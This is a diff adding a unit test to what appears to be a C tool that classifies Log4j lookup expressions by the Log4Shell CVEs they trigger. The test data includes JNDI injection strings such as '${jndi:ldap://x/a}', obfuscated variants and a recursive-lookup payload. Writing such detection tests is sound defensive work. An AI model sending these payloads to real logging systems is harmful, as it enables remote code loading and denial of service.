@@ -700,6 +700,30 @@ static void steps_are_told_in_order(void)
     sbuf_free(&out);
 }
 
+static uint32_t cves_of(struct span text)
+{
+    evaluate(text);
+    return result.cves;
+}
+
+static void cves(void)
+{
+    const uint32_t asks = 1u << CVE_2021_44228;
+    const uint32_t context = asks | 1u << CVE_2021_45046;
+    const uint32_t cycle = 1u << CVE_2021_45105;
+    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://x/a}")), asks);
+    CU_ASSERT_EQUAL(cves_of(SPAN("$${jndi:ldap://x/a}")), asks);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi :ldap://x/a}")), asks);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://127.0.0.1#x.example:1389/a}")), context);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://x/a#b}")), asks);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${${ctx:a:-j}ndi:ldap://x/a}")), context);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:ldap://x/${ctx:user}}")), context);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${ctx:user}")), 0);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${${::-${::-$${::-j}}}}")), cycle);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${jndi:N:-$${jndi:N}}")), asks | cycle);
+    CU_ASSERT_EQUAL(cves_of(SPAN("${java:x}")), 0);
+}
+
 static CU_TestInfo grammar_tests[] = {
     {"passes", passes},
     {"passes count UTF-16 units", passes_count_utf16_units},
@@ -738,6 +762,7 @@ static CU_TestInfo report_tests[] = {
     {"variables that would leak", variables_that_would_leak},
     {"tricks", tricks},
     {"raw is the expression that asks", raw_is_the_expression_that_asks},
+    {"CVEs", cves},
     {"steps are told in order", steps_are_told_in_order},
     CU_TEST_INFO_NULL,
 };
